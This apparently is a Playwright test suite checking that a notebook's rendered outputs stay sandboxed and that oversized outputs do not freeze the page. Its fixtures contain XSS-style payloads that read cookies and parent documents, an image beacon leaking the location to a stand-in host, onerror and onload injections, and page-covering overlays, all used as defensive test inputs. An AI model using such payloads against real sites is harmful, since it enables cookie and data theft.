"""Outputs that mean harm: they reach neither the token, nor the API, nor the page, nor another host."""

from __future__ import annotations

import textwrap

from playwright.sync_api import BrowserContext, Page, expect

from interpreter import Session
from tests.conftest import Gateway, only

pytestmark = only("embedded")

REACHING = """
<h2>a report</h2>
<form action="/v1/sessions" method="post"><input name="x"><button id="send">send</button></form>
<div id="said">nothing yet</div>
<script>
  const said = {};
  const tries = {
    parent: () => parent.document.title,
    top: () => top.document.cookie,
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    leave: () => { top.location = "http://127.0.0.1:1/gone"; return location.href; },
    open: () => String(open("/")),
    dialog: () => { alert("hello"); return "shown"; },
  };
  (async () => {
    for (const [name, attempt] of Object.entries(tries)) {
      try { said[name] = String(attempt()); } catch (error) { said[name] = "refused"; }
    }
    for (const url of ["/v1/sessions", "/v1/status", "http://127.0.0.1:1/"]) {
      try { said[url] = (await fetch(url, {credentials: "include"})).status; } catch { said[url] = "refused"; }
    }
    try { said.worker = String(new Worker("/assets/x.js")); } catch { said.worker = "refused"; }
    new Image().src = "http://127.0.0.1:1/leak?" + location;
    document.getElementById("send").click();
    // What the page believes of a frame is its height, within bounds.
    for (const message of [{height: 1e9}, {height: -5}, {height: NaN}, {height: "<b>"}, null, 7,
        {ready: true}, {do: "rest"}, {mime: "text/html", value: "x"}, {is: "events", events: []}]) {
      parent.postMessage(message, "*");
    }
    document.getElementById("said").textContent = JSON.stringify(said);
  })();
</script>
"""
SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40" onload="parent.hacked = 1">
<script>top.hacked = 1; fetch("/v1/sessions")</script>
<rect width="60" height="40" fill="teal" onclick="alert(1)"/>
<foreignObject width="10" height="10"><iframe src="/v1/sessions"></iframe></foreignObject></svg>"""
COVERING = """<style>
html, body { position: fixed !important; inset: 0 !important; z-index: 2147483647 !important; height: 100000px; }
div { position: fixed; inset: 0; background: red; width: 100vw; height: 100vh; }
</style><div>covered</div><script>parent.postMessage({height: 1e7}, "*")</script>"""


def show(mime: str, content: str) -> str:
    return f"from IPython.display import display\ndisplay({{{mime!r}: {content!r}}}, raw=True)"


def responsive(page: Page) -> None:
    """The page does what it is told: it opens its menu, and shows what is typed."""
    page.get_by_role("button", name="More", exact=True).click()
    expect(page.get_by_role("menuitem", name="Delete")).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_label("Code of the next cell").focus()
    page.keyboard.insert_text("# alive")
    expect(page.get_by_label("Code of the next cell")).to_have_text("# alive")
    page.keyboard.press("Control+a")
    page.keyboard.press("Delete")


def test_scripts_reach_nothing(
    notebook: Page, context: BrowserContext, gateway: Gateway, live: Session
) -> None:
    popups: list[Page] = []
    context.on("page", lambda opened: popups.append(opened))
    dialogs: list[str] = []
    notebook.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    live.run(show("text/html", REACHING))
    frame = notebook.frame_locator(".framed iframe")
    said = frame.locator("#said")
    expect(said).to_contain_text("worker")
    told = said.evaluate("element => JSON.parse(element.textContent)")
    assert told.pop("leave") in ("refused", f"{gateway.url}/frame#light"), told
    assert told.pop("open") in ("null", "refused")
    assert told.pop("dialog") in (
        "refused",
        "shown",
    )  # a sandboxed dialog is never shown, whatever it says
    assert set(told.values()) == {"refused"}, told
    assert not popups
    assert not dialogs
    assert notebook.url == f"{gateway.url}/sessions/{live.id}"
    box = notebook.locator(".framed iframe").bounding_box()
    assert box is not None
    assert box["height"] < 1000, "whatever the frame says of its height"
    # The token is nowhere that a script could read it, not even one of the page's own.
    assert notebook.evaluate("document.cookie") == ""
    assert gateway.token not in notebook.content()
    responsive(notebook)


def test_drawings_markdown_and_styles_stay_in_their_frames(
    notebook: Page, gateway: Gateway, live: Session
) -> None:
    asked: list[str] = []
    notebook.on("request", lambda request: asked.append(request.url))
    live.run(show("image/svg+xml", SVG))
    live.run(
        show(
            "text/markdown", "# Title\n\n<img src=x onerror='top.hacked=1'><script>top.hacked=1</script>"
        )
    )
    live.run(show("application/javascript", "element.textContent = 'ran'; top.hacked = 1"))
    live.run(show("text/html", COVERING))
    frames = notebook.locator(".framed iframe")
    expect(frames).to_have_count(4)
    expect(frames.nth(0).content_frame.locator("rect")).to_be_visible()
    expect(frames.nth(1).content_frame.locator("h1")).to_have_text("Title")
    expect(frames.nth(3).content_frame.locator("div", has_text="covered").last).to_be_visible()
    for at in range(4):
        assert frames.nth(at).get_attribute("sandbox") == "allow-scripts"
    assert notebook.evaluate("window.hacked") is None
    assert not [url for url in asked if url.endswith("/v1/sessions")]
    # The bar is above everything, and a click on it arrives.
    responsive(notebook)
    assert notebook.evaluate("document.querySelectorAll('.cell script, .cell svg rect').length") == 0


def test_text_is_text(notebook: Page, live: Session) -> None:
    """Names, prompts, errors and results that look like HTML are shown as what they are."""
    evil = "<img src=x onerror=window.hacked=1>"
    live.run(
        f"open({evil!r}.replace('/', ''), 'w').write('x'); print({evil!r}); raise ValueError({evil!r})"
    )
    found = notebook.locator(".cell").last
    expect(found.locator(".text").first).to_have_text(evil)
    expect(found.locator(".exception")).to_contain_text(evil)
    expect(found.locator(".cell-files")).to_contain_text("<img src=x")
    live.update(name=evil)
    expect(notebook.get_by_role("heading", name=evil)).to_be_visible()
    assert notebook.evaluate("window.hacked") is None
    assert found.locator("img").count() == 0


def test_a_million_lines_do_not_freeze_the_page(notebook: Page, live: Session) -> None:
    live.run("for i in range(1_000_000): print(f'line {i}')", timeout=300)
    found = notebook.locator(".cell").last
    expect(found).to_have_attribute("data-status", "ok")
    expect(found.locator(".text").first).to_contain_text("line 0")
    expect(found.locator(".text").last).to_contain_text("line 999999")
    expect(found.locator(".cut").first).to_contain_text("lines not shown")
    responsive(notebook)
    shown = found.locator(".text").all_inner_texts()
    assert sum(text.count("\n") for text in shown) < 1000
    found.get_by_role("button", name="Show more").first.click()
    expect(found.locator(".text").first).to_contain_text("line 300")
    with notebook.expect_download() as download:
        found.get_by_role("link", name="Download all").first.click()
    with open(download.value.path(), "rb") as whole:
        assert sum(1 for _ in whole) == 1_000_000
    responsive(notebook)


def test_fifty_megabytes_of_html_do_not_freeze_the_page(notebook: Page, live: Session) -> None:
    live.run(
        "from IPython.display import HTML, display\n"
        "display(HTML('<p>large</p>' * (50_000_000 // 12)))\nprint('after')",
        timeout=300,
    )
    found = notebook.locator(".cell").last
    expect(found).to_contain_text("after")
    expect(found.locator(".results")).to_contain_text("over the limit")
    responsive(notebook)
    live.run("display(HTML('<p>large</p>' * (30_000_000 // 12)))\nprint('after')", timeout=300)
    expect(found).to_contain_text("after")
    expect(found.locator(".results")).to_contain_text("are kept here")
    responsive(notebook)
    # What fits is shown, and only so high.
    live.run("display(HTML('<p>tall</p>' * 100_000))", timeout=300)
    tall = notebook.locator(".framed iframe")
    expect(tall.content_frame.locator("p").first).to_have_text("tall")
    responsive(notebook)


def test_a_script_that_never_ends_stops_only_its_frame(notebook: Page, live: Session) -> None:
    live.run(show("text/html", "<p>spinning</p><script>setTimeout(() => { for (;;); }, 200)</script>"))
    expect(notebook.locator(".framed iframe")).to_be_visible()
    live.run("print('and on')")
    expect(notebook.locator(".cell").last).to_contain_text("and on")
    responsive(notebook)


def test_text_that_is_costly_to_draw_does_not_freeze_the_page(notebook: Page, live: Session) -> None:
    live.run(r"print('x' + '\b' * 400_000 + 'A'); print('a\r' * 300_000 + 'B')")
    live.run(r"print(('long' * 100_000 + '\r') * 5 + 'C'); print('x' * 5_000_000)")
    live.run(r"print(''.join(f'\x1b[3{i % 8}mc' for i in range(200_000)))")
    live.run(r"for i in range(300): print('wide ' * 1000)")
    cells = notebook.locator(".cell")
    expect(cells).to_have_count(4)
    expect(cells.last).to_have_attribute("data-status", "ok")
    expect(cells.nth(0).locator(".text")).to_have_text("A\nB")
    expect(cells.nth(1).locator(".text").first).to_contain_text("Cong")
    expect(cells.last.locator(".cut")).to_contain_text("lines not shown")
    responsive(notebook)
    assert notebook.evaluate("document.getElementsByTagName('*').length") < 10_000


def test_a_frame_that_floods_the_page_with_messages_is_ended(notebook: Page, live: Session) -> None:
    many = "for (let i = 0; i < 1000; i++) parent.postMessage({height: i}, '*')"
    flood = f"<script>setInterval(() => {{ {many} }}, 1)</script>"
    live.run(show("text/html", flood))
    expect(notebook.locator(".cell").last).to_contain_text("it kept the page busy")
    expect(notebook.locator("iframe")).to_have_count(0)
    responsive(notebook)


def test_a_flood_of_outputs_keeps_the_page_small(notebook: Page, live: Session) -> None:
    code = textwrap.dedent("""
        from IPython.display import HTML, display
        for i in range(2000): display(HTML(f'<b>{i}</b>'))
        for i in range(20000): print(i, end=' ')
    """)
    live.run(code, timeout=300)
    found = notebook.locator(".cell").last
    expect(found).to_contain_text("outputs are not shown")
    responsive(notebook)
    assert notebook.locator("iframe").count() <= 80
    assert notebook.evaluate("document.getElementsByTagName('*').length") < 5000
